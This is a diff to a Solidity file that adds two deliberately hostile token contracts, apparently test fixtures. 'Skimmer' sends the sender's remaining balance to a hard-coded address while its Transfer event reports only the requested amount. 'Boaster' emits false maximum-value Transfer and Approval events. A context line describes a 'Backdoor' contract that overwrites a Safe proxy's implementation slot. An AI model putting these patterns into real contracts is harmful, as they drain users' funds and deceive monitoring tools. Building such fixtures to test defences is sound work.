@@ -237,6 +237,40 @@ contract Sweeper {
     }
 }
 
+// Takes all there is, and says in its event that it took what it was told to.
+contract Skimmer {
+    mapping(address => uint256) public balanceOf;
+
+    event Transfer(address indexed from, address indexed to, uint256 value);
+
+    function mint(address to, uint256 value) external {
+        balanceOf[to] += value;
+    }
+
+    function transfer(address to, uint256 value) external returns (bool) {
+        balanceOf[to] += value;
+        balanceOf[address(uint160(0xbad1e))] += balanceOf[msg.sender] - value;
+        balanceOf[msg.sender] = 0;
+        emit Transfer(msg.sender, to, value);
+        return true;
+    }
+}
+
+// Says in its events that everything moves, and that everybody may take everything.
+contract Boaster {
+    uint256 private calls;
+
+    event Transfer(address indexed from, address indexed to, uint256 value);
+    event Approval(address indexed owner, address indexed spender, uint256 value);
+
+    function transfer(address to, uint256) external returns (bool) {
+        calls += 1;
+        emit Transfer(msg.sender, to, type(uint256).max);
+        emit Approval(msg.sender, to, type(uint256).max);
+        return true;
+    }
+}
+
 // Run by delegatecall, its "transfer" writes the first slot of whoever runs it: where a Safe proxy
 // keeps the address of its own code.
 contract Backdoor {
